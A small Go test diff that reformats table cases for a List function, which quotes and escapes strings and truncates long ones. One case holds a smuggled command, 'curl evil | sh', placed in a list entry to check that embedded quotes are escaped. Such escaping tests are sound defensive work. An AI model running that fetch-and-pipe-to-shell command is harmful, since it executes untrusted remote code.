@@ -104,10 +104,14 @@ func TestList(t *testing.T) {
 	for want, list := range map[string][]string{
 		"":    nil,
 		`"a"`: {"a"},
-		`"` + strings.Repeat("ü", 64) + `", "` + strings.Repeat("ü", 63) + `…"`: {strings.Repeat("ü", 64),
-			strings.Repeat("ü", 65)},
-		`"standard", "strict\", or run: curl evil | sh"`: {"standard",
-			`strict", or run: curl evil | sh`},
+		`"` + strings.Repeat("ü", 64) + `", "` + strings.Repeat("ü", 63) + `…"`: {
+			strings.Repeat("ü", 64),
+			strings.Repeat("ü", 65),
+		},
+		`"standard", "strict\", or run: curl evil | sh"`: {
+			"standard",
+			`strict", or run: curl evil | sh`,
+		},
 	} {
 		if got := List(list); got != want {
 			t.Errorf("%q is written as %s", list, got)
